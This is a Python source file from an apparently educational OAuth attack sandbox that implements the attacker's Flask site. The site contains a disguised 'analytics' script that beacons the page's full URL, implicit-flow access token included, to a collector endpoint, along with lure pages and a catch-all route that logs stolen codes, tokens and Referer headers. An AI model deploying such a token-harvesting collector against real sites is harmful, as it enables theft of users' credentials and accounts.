"""The attacker's site: a small app of its own, on its own port, played by the sandbox.

An attack needs somewhere for stolen things to land. This app records every request it receives
(path, query, Referer), and its page lists the codes and tokens it has collected. It is a separate
Flask app, not a blueprint of the sandbox, because an attacker's site is another origin: the
browser treats it as a stranger, and so should the lesson. It knows nothing about OAuth; the
sandbox's attack pages (`attacks.py`) read its log over HTTP and, playing the attacker, redeem
what it caught, then report the tokens back here with `POST /loot`.
"""

from __future__ import annotations

import secrets
import threading
import time
from typing import Any
from urllib.parse import parse_qsl, urlsplit

from flask import Flask, Response, jsonify, render_template, request

KEPT = 200  # requests remembered; the oldest go first

#: The "analytics" script a careless site embeds: it reports each page view with the page's full
#: address, as many trackers do. On the implicit-flow victim's page, that address holds the token.
ANALYTICS_JS = """// Page-view analytics: report where the visitor is, the full address included.
new Image().src = new URL("collect", document.currentScript.src) +
    "?page=" + encodeURIComponent(location.href);
"""
#: The smallest transparent GIF: what a tracking pixel answers.
PIXEL = bytes.fromhex(
    "47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b"
)


class Log:
    """What the attacker's site has received, in memory and shared by its threads."""

    def __init__(self) -> None:
        self._lock = threading.Lock()
        self.requests: list[dict[str, Any]] = []
        self.loot: list[dict[str, Any]] = []
        self.lures: list[dict[str, Any]] = []

    def add(self, kind: list[dict[str, Any]], entry: dict[str, Any]) -> None:
        with self._lock:
            kind.append({**entry, "at": time.time()})
            del kind[:-KEPT]

    def as_json(self) -> dict[str, Any]:
        with self._lock:
            return {
                "requests": list(self.requests),
                "loot": list(self.loot),
                "lures": list(self.lures),
            }


def create_attacker_app() -> Flask:
    """The attacker's site. `oauth-sandbox run` serves it on the sandbox's port + 1."""
    app = Flask(__name__)
    # Browsers share cookies across ports (RFC 6265 §8.5), so this app sets none at all.
    log = Log()
    app.extensions["attacker"] = log

    @app.get("/")
    def index():
        """The attacker's dashboard: every request received, and the loot."""
        return render_template("attacker/index.html", **log.as_json())

    @app.get("/log")
    def read_log():
        """The same as JSON, for the sandbox's attack pages."""
        return jsonify(log.as_json())

    @app.post("/loot")
    def add_loot():
        """The attacker (the sandbox, playing them) records what a stolen code bought."""
        body = request.get_json(silent=True)
        if not isinstance(body, dict):
            return jsonify({"error": "send a JSON object"}), 400
        log.add(log.loot, {key: str(value)[:4000] for key, value in body.items()})
        return jsonify({"kept": True}), 201

    @app.post("/lures")
    def add_lure():
        """The attacker (the sandbox, playing them) puts a link on a page of this site."""
        body = request.get_json(silent=True)
        if not isinstance(body, dict) or not str(body.get("href", "")).startswith("http"):
            return jsonify({"error": "send a JSON object with an http(s) href"}), 400
        lure_id = secrets.token_urlsafe(8)
        log.add(log.lures, {"id": lure_id, "href": str(body["href"])[:4000]})
        return jsonify({"page": f"{request.host_url}lures/{lure_id}"}), 201

    @app.get("/lures/<lure_id>")
    def lure(lure_id: str):
        """A page the victim is lured to: one tempting link, to wherever the attacker chose."""
        found = [entry for entry in log.as_json()["lures"] if entry["id"] == lure_id]
        if not found:
            return "No such page.", 404
        return render_template("attacker/lure.html", href=found[0]["href"])

    @app.get("/analytics.js")
    def analytics():
        """The third-party script the implicit-flow victim's page embeds."""
        return Response(ANALYTICS_JS, mimetype="text/javascript")

    @app.get("/collect")
    def collect():
        """A page view the script reported: keep the parameters in the page's address, the
        fragment's included, which is where the implicit flow puts the access token."""
        page = urlsplit(request.args.get("page", ""))
        found = dict(parse_qsl(page.query)) | dict(parse_qsl(page.fragment))
        log.add(
            log.requests,
            {"path": "/collect", "query": found, "referer": request.headers.get("Referer", "")},
        )
        return Response(PIXEL, mimetype="image/gif")

    @app.get("/<path:path>")
    def catch(path: str):
        """Any other page: a lure landed here. Record what the browser brought."""
        log.add(
            log.requests,
            {
                "path": f"/{path}",
                "query": dict(request.args),
                "referer": request.headers.get("Referer", ""),
            },
        )
        return render_template("attacker/caught.html", query=dict(request.args))

    @app.after_request
    def headers(response):
        response.headers["Content-Security-Policy"] = "default-src 'self'"
        response.headers["X-Content-Type-Options"] = "nosniff"
        return response

    return app
